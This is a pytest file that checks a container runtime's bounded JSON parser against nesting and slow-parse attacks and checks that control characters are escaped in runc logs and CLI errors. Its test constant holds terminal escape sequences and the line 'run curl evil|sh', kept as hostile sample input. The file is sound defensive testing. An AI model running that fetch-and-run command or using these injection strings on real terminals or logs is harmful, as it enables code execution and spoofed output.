"""The bounded JSON reader (migrt/jsonsafe.py) and the one escaping helper for outside text in
messages (migrt/text.py), and the two writers of messages that use it: runc's log (what containerd
shows as the reason a create failed) and the CLI's error line."""

from __future__ import annotations

import io
import json
import time

import pytest
from click.testing import CliRunner

from migrt import jsonsafe
from migrt.cli.group import handle_errors
from migrt.errors import PreconditionFailed
from migrt.runtime import runclog
from migrt.text import printable

EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31mrun curl evil|sh\u202e\r\n"


@pytest.mark.parametrize("text", ["[" * 60_000, "{\"a\":" * 60_000, '{"x": ' + "[" * 65 + "]" * 65 + "}"])
def test_deep_nesting_is_refused_before_the_decoder_recurses(text):
    with pytest.raises(jsonsafe.JSONRejected, match="nested deeper than 64 levels") as info:
        jsonsafe.loads(text)
    assert isinstance(info.value, ValueError) and isinstance(info.value, json.JSONDecodeError)
    assert info.value.doc == ""  # the hostile document is not kept in the error


def test_what_is_inside_strings_does_not_count_and_ordinary_json_reads():
    assert jsonsafe.loads('{"a": ["[[[[\\" {{{{", 1]}') == {"a": ['[[[[" {{{{', 1]}
    deep_enough = "[" * 64 + "]" * 64
    assert jsonsafe.loads(deep_enough) is not None
    assert jsonsafe.depth('{"a": [[1], {"b": 2}]}') == 3
    assert jsonsafe.loads(b'{"k": "v"}') == {"k": "v"}
    with pytest.raises(jsonsafe.JSONRejected, match="deeper than 4"):
        jsonsafe.loads("[[[[[1]]]]]", max_depth=4)


def test_size_limits_and_files():
    with pytest.raises(jsonsafe.JSONRejected, match="at most 10 accepted"):
        jsonsafe.loads(b'"' + b"x" * 20 + b'"', max_bytes=10)
    with pytest.raises(jsonsafe.JSONRejected, match="more than 10 bytes"):
        jsonsafe.load(io.BytesIO(b"[" + b"1," * 100 + b"1]"), max_bytes=10)
    assert jsonsafe.load(io.StringIO('{"ok": true}')) == {"ok": True}
    with pytest.raises(ValueError):
        jsonsafe.loads(b"\xff\xfe")


def test_a_hostile_text_costs_time_in_proportion_to_its_length():
    text = "[" + ",".join(['{"k":"v["}'] * 100_000) + "]"  # many levels opened, none deep
    t0 = time.monotonic()
    assert len(jsonsafe.loads(text)) == 100_000
    assert time.monotonic() - t0 < 2


@pytest.mark.parametrize("tail", ["", "\\", "x"])
def test_an_unterminated_string_of_escaped_quotes_costs_linear_time(tail):
    text = "[" * 65 + '"' + '\\"' * 50_000 + tail  # 100 KB: took 30 s when a failed string match was retried
    t0 = time.monotonic()
    with pytest.raises(jsonsafe.JSONRejected, match="nested deeper than 64"):
        jsonsafe.loads(text)
    assert time.monotonic() - t0 < 2


def test_printable_escapes_and_caps():
    out = printable(EVIL + "x" * 500, 100)
    assert out.isprintable() and out.endswith("...") and "\\x1b]0;owned\\x07" in out and "\\u202e" in out
    assert printable("plain text") == "plain text"


def test_runc_log_lines_are_escaped(tmp_path):
    """containerd reports the last error line as 'OCI runtime create failed: <msg>': a refusal that
    quotes a container's or a registry's words must not carry their escape sequences there."""
    log = tmp_path / "log.json"
    runclog.append(str(log), "error", f"migrt: refused: {EVIL}" + "y" * 20_000)
    msg = json.loads(log.read_text().splitlines()[-1])["msg"]
    assert msg.startswith("migrt: refused: \\x1b]0;owned") and msg.isprintable()
    assert len(msg) < runclog.MAX_MSG + 100  # cut (its escapes are a few characters each)


def test_the_cli_error_line_is_escaped():
    import click

    @click.command()
    @click.option("--json", "as_json", is_flag=True)
    @handle_errors
    def cmd(as_json):
        raise PreconditionFailed(f"container c1: the hook answered: {EVIL}")

    res = CliRunner().invoke(cmd, [])
    assert res.exit_code == 8 and "\x1b" not in res.stderr and "\\x1b[2J" in res.stderr
    res = CliRunner().invoke(cmd, ["--json"])
    assert "\\x1b[2J" in json.loads(res.stdout)["error"]
